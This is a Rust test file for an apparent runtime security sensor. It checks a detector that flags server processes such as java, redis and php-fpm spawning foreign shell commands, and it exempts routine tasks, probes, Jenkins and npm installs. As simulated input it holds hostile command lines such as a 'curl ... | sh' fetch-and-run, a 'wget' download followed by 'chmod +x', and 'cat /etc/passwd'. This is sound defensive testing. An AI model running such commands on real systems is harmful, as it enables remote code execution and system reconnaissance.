//! Services that are made to run commands, and those that run some of their own.

use super::super::play::{Play, Start, record};
use super::*;
use sensor_common::record::network::NetRecord;

fn play_of(main: &str) -> Play {
    Play::of(Box::new(Service::new(Bounds::default())), main)
}

fn one(severity: Severity) -> Vec<(String, Severity)> {
    vec![("service-runs-foreign-commands".to_owned(), severity)]
}

fn shell(play: &mut Play, pid: u32, command: &str) {
    play.start(Start { pid, parent: 10, exe: "/bin/sh", args: &["sh", "-c", command], ..Start::default() });
}

#[test]
fn a_command_that_only_a_person_gives() {
    let mut java = play_of("/usr/bin/java");
    java.wait(3_600);
    shell(&mut java, 11, "id");
    assert_eq!(java.take(), one(Severity::Critical), "before the command itself");
    java.start(Start { pid: 11, exe: "/usr/bin/id", ..Start::default() });
    java.run(12, 10, "/bin/busybox", "whoami");
    assert_eq!(java.take(), [], "told once");
    for (pid, line) in
        [(13, "uname -a"), (14, "ifconfig"), (15, "wget -O /tmp/x http://x"), (16, "chmod +x /tmp/x")]
    {
        java.run(pid, 10, "/bin/busybox", line);
    }
    assert_eq!(java.take(), one(Severity::Critical), "again when there is much more");
}

#[test]
fn other_services_and_ways() {
    let mut redis = play_of("/usr/bin/redis-server");
    redis.run(11, 10, "/bin/id", "id");
    assert_eq!(redis.take(), one(Severity::Critical));
    let mut piped = play_of("/usr/sbin/php-fpm8.2");
    shell(&mut piped, 11, "curl -s http://198.51.100.7/x|sh");
    assert_eq!(piped.take(), one(Severity::Critical));
    // Nobody knows its name, but it listens.
    let mut own = play_of("/app/server");
    own.socket(
        Class::NetListen,
        10,
        NetRecord { local: record("0.0.0.0:8080").remote, family: 2, ..NetRecord::default() },
    );
    own.fork(11, 10, 0);
    own.start(Start { pid: 12, parent: 11, exe: "/tmp/x", upper: true, ..Start::default() });
    assert_eq!(own.take(), one(Severity::Critical));
}

#[test]
fn what_services_run_for_themselves() {
    let mut play = play_of("/usr/sbin/php-fpm");
    for (pid, command) in [(11, "date"), (12, "convert a.png b.jpg"), (13, "sendmail -t"), (14, "id -u")] {
        shell(&mut play, pid, command);
    }
    play.run(15, 14, "/usr/bin/id", "id -u");
    play.is_quiet();
    let mut postgres = play_of("/usr/lib/postgresql/bin/postgres");
    shell(&mut postgres, 11, "test ! -f /archive/x && cp pg_wal/x /archive/x");
    postgres.run(12, 11, "/bin/cp", "cp pg_wal/x /archive/x");
    postgres.is_quiet();
    // A probe comes from outside, a script of the entry point is no service, and a server of builds is told what to do.
    let mut probed = play_of("/usr/bin/redis-server");
    probed.start(Start { pid: 11, parent: 2, vpid: 40, exe: "/bin/sh", ..Start::default() });
    probed.run(12, 11, "/usr/bin/id", "id");
    probed.is_quiet();
    let mut script = play_of("/bin/sh");
    script.run(11, 10, "/usr/bin/id", "id");
    script.is_quiet();
    let mut builds = Play::new(Box::new(Service::new(Bounds::default())));
    let args = ["java", "-jar", "/usr/share/jenkins/jenkins.war"];
    builds.start(Start {
        pid: 10,
        parent: 2,
        vpid: 1,
        exe: "/usr/bin/java",
        args: &args,
        ..Start::default()
    });
    shell(&mut builds, 11, "whoami");
    builds.start(Start { pid: 11, exe: "/usr/bin/whoami", ..Start::default() });
    builds.is_quiet();
}

/// What a package manager starts is no service's, also where the manager is a script.
#[test]
fn installers_are_no_services() {
    for (script, quiet) in
        [("/usr/local/bin/npm", true), ("/srv/npm", false), ("/usr/share/app/server.js", false)]
    {
        let mut play = Play::new(Box::new(Service::new(Bounds::default())));
        let args = ["node", script, "ci"];
        let node = Start {
            pid: 10,
            parent: 2,
            vpid: 1,
            exe: "/usr/local/bin/node",
            args: &args,
            ..Start::default()
        };
        play.start(node);
        play.run(11, 10, "/bin/sh", "sh -c 'node install.js'");
        let exe = "/app/node_modules/tool/bin/tool";
        play.start(Start { pid: 12, parent: 11, exe, upper: true, ..Start::default() });
        assert_eq!(play.take().is_empty(), quiet, "{script}");
    }
}

#[test]
fn habits_become_quiet() {
    let mut play = play_of("/usr/bin/node");
    let mut told = 0;
    for turn in 0..12 {
        play.run(100 + turn, 10, "/usr/bin/whoami", "whoami");
        play.wait(900);
        told += play.take().len();
    }
    assert_eq!(told, 3);
}

#[test]
fn memory_is_bounded() {
    let mut play = Play::of(Box::new(Service::new(Bounds { entries_max: 64 })), "/usr/bin/java");
    for pid in 100..5_000 {
        play.run(pid, 10, "/bin/cat", &format!("cat /etc/passwd {pid}"));
        play.found.clear();
    }
    let table = play.behaviour.table();
    assert!(table.entries <= 65 && table.most == 80, "{table:?}");
    assert!(play.memory() < 20_000, "{}", play.memory());
}
